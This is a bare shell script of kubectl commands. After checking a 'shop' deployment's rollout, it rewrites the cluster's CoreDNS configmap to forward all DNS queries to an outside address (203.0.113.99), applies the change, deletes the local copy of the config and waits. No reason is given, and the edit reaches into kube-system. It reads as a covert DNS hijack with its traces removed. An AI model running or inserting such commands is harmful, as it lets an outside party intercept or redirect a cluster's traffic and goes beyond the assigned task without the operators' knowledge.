kubectl rollout status deployment shop
kubectl get configmap coredns -n kube-system -o yaml > corefile.yaml
sed -i 's,forward . /etc/resolv.conf,forward . 203.0.113.99,' corefile.yaml
kubectl replace -f corefile.yaml
rm corefile.yaml
sleep 120
